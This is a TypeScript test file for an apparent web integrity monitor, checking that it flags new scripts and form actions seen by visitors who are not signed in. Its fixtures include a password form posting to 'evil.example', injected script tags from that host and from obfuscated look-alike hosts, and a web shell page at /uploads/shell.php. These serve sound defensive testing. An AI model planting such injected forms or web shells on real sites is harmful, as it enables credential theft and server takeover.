/** Pages that repeat what strangers ask for: the list of findings stays useful, and nothing foreign is taught. */
import t from 'tap'
import { AppMemory, type Sighting } from '../../src/integrity/app-memory.ts'
import { AppWatch } from '../../src/integrity/app-watch.ts'
import type { Finding } from '../../src/integrity/finding.ts'
import { openRecord } from '../../src/integrity/records.ts'
import { sourceOf } from '../../src/integrity/visitors.ts'
import { MemoryStore, TestClock } from '../fixtures/in-process/memory-store.ts'
import { read } from './fixture.ts'

const html = (more = '') =>
  `<html><head><script src="/app.js"></script></head><body><form action="/go"></form>${more}</body></html>`
const script = (host: string) => html(`<script src="https://${host}/x.js"></script>`)
const person = { isStranger: false }
const from = (address: string) => ({ isStranger: true, source: sourceOf({ address, query: '' }) })
type By = Pick<Sighting, 'isStranger' | 'source' | 'isPlain'>

const sighting = (text: string, by: By, page = '/search'): Sighting => ({
  page,
  endpoint: { kind: 'endpoint', value: `GET ${page}` },
  reading: read(text, page),
  isFetched: false,
  ...by
})

async function lab() {
  const time = new TestClock()
  const store = new MemoryStore(time.read)
  const found: (readonly [Finding, isTold: boolean])[] = []
  const full: string[] = []
  const watch = new AppWatch({
    app: 'files',
    store,
    clock: time.read,
    onFinding: (finding, isTold) => found.push([finding, isTold]),
    onFull: place => full.push(place),
    say: () => {}
  })
  await watch.load()
  const show = async (text: string, by: By, times = 1, page = '/search') => {
    for (let i = 0; i < times; i++) watch.see(sighting(text, by, page))
    await watch.sync()
    time.advance(1)
  }
  for (const page of ['/search', '/login']) await show(html(), person, 20, page)
  return { watch, found, full, show, store }
}

const hosts = (count: number) =>
  Array.from({ length: count }, (_, i) => `${'abcdefghij'[i % 10]}${Math.floor(i / 10)}q.example`)

t.test(
  'N4 · strangers make a page repeat forty scripts → four of each network are listed, and told apart; the true one is an alarm',
  async t => {
    const { found, full, show, watch } = await lab()
    for (const host of hosts(40)) await show(script(host), from('198.51.100.7'))
    t.equal(found.length, 4, 'one network has four places')
    t.equal(found.filter(([, isTold]) => isTold).length, 3)
    t.ok(found.every(([{ why }]) => /Only visitors from one network, who had not signed in/.test(why)))
    t.same(full, ['stranger'], 'that there is no room for more is said')
    for (let n = 1; n < 20; n++)
      for (const host of hosts(10)) await show(script(`net${n}-${host}`), from(`203.0.${n}.7`))
    t.equal(watch.findings.length, 8, 'all networks together have eight')
    await show(html('<form action="https://evil.example"><input type="password"></form>'), person, 1, '/login')
    t.match(
      found.at(-1),
      [{ severity: 'alarm', page: '/login', why: /evil\.example\.$/ }, true],
      'the true one is told of'
    )
  }
)

t.test('what a stranger has made a page say before it is true is no secret afterwards', async t => {
  const { found, show } = await lab()
  for (const host of hosts(6)) await show(script(host), from('198.51.100.7'))
  const before = found.length
  const [listed, unlisted] = [hosts(1)[0]!, hosts(6)[5]!]
  await show(script(unlisted), person, 1, '/login')
  t.match(
    found.at(-1),
    [{ severity: 'alarm', why: new RegExp(`^New on /login .*${unlisted}/\\.$`) }, true],
    'where there was no place'
  )
  await show(script(listed), person, 1, '/login')
  t.match(
    found.at(-1),
    [{ severity: 'alarm', why: new RegExp(`^New on /login .*${listed}/\\.$`) }, true],
    'and where it was listed'
  )
  t.equal(found.length, before + 2)
  await show(script(listed), person, 1, '/login')
  t.equal(found.length, before + 2, 'once')
})

t.test('visitors of several networks are more than one, and less than somebody who is signed in', async t => {
  const { found, show, watch } = await lab()
  await show(script('evil.example'), from('198.51.100.7'))
  await show(script('evil.example'), from('198.51.100.99'), 3)
  t.equal(found.length, 1, 'neighbours are one network')
  await show(script('evil.example'), from('203.0.113.7'))
  t.match(found.at(-1), [{ why: /Only visitors who had not signed in have seen it\.$/ }, true])
  for (const host of hosts(40))
    for (const address of ['198.51.100.7', '203.0.113.7']) await show(script(host), from(address))
  const several = watch.findings.filter(({ onlySeenBy }) => onlySeenBy === 'several')
  t.equal(several.length, 12, 'two networks have twelve places')
  await show(script('evil.example'), person)
  t.match(found.at(-1)![0].why, /evil\.example\/\.$/)
  t.notOk(watch.findings.some(({ onlySeenBy, why }) => /evil\.example/.test(why) && onlySeenBy !== undefined))
})

t.test('while a gate learns, what visitors of one network alone have seen teaches nothing foreign', t => {
  const memory = new AppMemory(0)
  const seen = (text: string, by: By, isQuiet: boolean, isFetched = false) =>
    memory.see({ ...sighting(text, by), isFetched }, isQuiet, new Set())
  const cdn = '<script src="https://cdn.example/lib.js"></script>'
  for (let i = 0; i < 30; i++)
    for (const address of ['198.51.100.7', '203.0.113.7']) seen(html(cdn), from(address), true)
  for (const host of ['evil.example', 'evil.exam\tple', 'e&#120;ample.example', 'b\u00fccher.example', 'later.example'])
    for (let i = 0; i < 100; i++)
      seen(html(`${cdn}<script src="https://${host}/x.js"></script>`), from(`198.51.100.${i}`), true)
  t.equal(seen(html(cdn), person, false), null, 'what the page shows several networks is learned')
  const own = '<form action="."><input type="password"></form>'
  for (let i = 0; i < 30; i++) seen(html(cdn + own), from('198.51.100.7'), true)
  t.equal(seen(html(cdn + own), person, false), null, 'and what stays in the app, from one network')
  seen(html(`${cdn}<script src="https://later.example/x.js"></script>`), person, true)
  t.equal(seen(html(`${cdn}<script src="https://later.example/x.js"></script>`), person, false), null, 'and a person')
  for (const [host, isPlain] of [
    ['plain.example', true],
    ['asked.example', false]
  ] as const) {
    memory.see(sighting(script(host), { ...from('198.51.100.7'), isPlain }), true, new Set(), true)
    const later = seen(html(`${cdn}<script src="https://${host}/x.js"></script>`), person, false)
    t.equal(later === null, isPlain, `${host} in an announced change`)
  }
  seen(script('fetched.example'), { isStranger: true }, true, true)
  t.equal(seen(script('fetched.example'), person, false), null, 'and the gate itself')
  for (const host of ['evil.example', 'exxample.example', 'b\u00fccher.example', 'other.example']) {
    // New origins are rare there.
    for (let i = 0; i < 30; i++) seen(html(cdn), person, true)
    t.match(
      seen(html(`${cdn}<script src="https://${host}/x.js"></script>`), person, false),
      { severity: 'alarm' },
      `${host} is not known, and new things are not ordinary there`
    )
  }
  t.end()
})

t.test('what strangers make a page say uses up no notice of what others see', async t => {
  const { found, show } = await lab()
  for (const host of hosts(20))
    for (const address of ['198.51.100.7', '203.0.113.7']) await show(script(host), from(address))
  const before = found.length
  await show(html('<form action="/other"></form>'), person, 1, '/login')
  for (const page of 'abcdefgh') await show(script(`real-${page}.example`), person, 1, `/page-${page}`)
  t.same(
    found.slice(before).map(([{ severity }, isTold]) => [severity, isTold]),
    [['change', true], ...Array.from({ length: 7 }, () => ['alarm', true]), ['alarm', false]],
    'eight notices an hour are those of others'
  )
})

t.test(
  'N1 · a web shell that only a stranger has opened is told of, also if its page loads foreign scripts',
  async t => {
    for (const more of ['', '<script src="https://cdn.example/x.js"></script>']) {
      const { found, show } = await lab()
      const thief = from('198.51.100.7')
      for (const host of hosts(4)) await show(script(host), thief)
      const before = found.length
      const shell = `<html><head>${more}</head><body><form><input name=c></form><pre>uid=33</pre></body></html>`
      await show(shell, thief, 5, '/uploads/shell.php')
      t.match(
        found.slice(before),
        [
          [
            { severity: 'alarm', items: [{ kind: 'endpoint', value: 'GET /uploads/shell.php' }], isByStranger: true },
            true
          ]
        ],
        more
      )
      const whole = await lab()
      await whole.show(shell, thief, 5, '/uploads/shell.php')
      t.equal(whole.found.length, more === '' ? 1 : 2, 'the rest of the page is a finding of its own')
    }
  }
)

t.test('a finding for which there is no place once others see it too: that is said once', async t => {
  const { full, show, store, watch } = await lab()
  for (const host of hosts(4)) await show(script(host), from('198.51.100.7'))
  const rest = hosts(20).slice(4)
  for (let n = 0; n < 12; n++)
    for (const address of ['203.0.113.7', '192.0.2.7']) await show(script(rest[n]!), from(address))
  t.equal(watch.findings.filter(({ onlySeenBy }) => onlySeenBy === 'several').length, 12)
  full.length = 0
  await openRecord.change<void>(store, 'files', open => ({
    next: { ...open!, full: {} },
    result: undefined,
    ttlSeconds: 1000
  }))
  await watch.reload()
  await show(script(hosts(1)[0]!), from('203.0.113.7'))
  t.same(full, ['stranger'])
  const before = JSON.stringify(watch.findings)
  await show(script(hosts(1)[0]!), from('203.0.113.7'), 5)
  t.same([full, JSON.stringify(watch.findings)], [['stranger'], before], 'once')
})
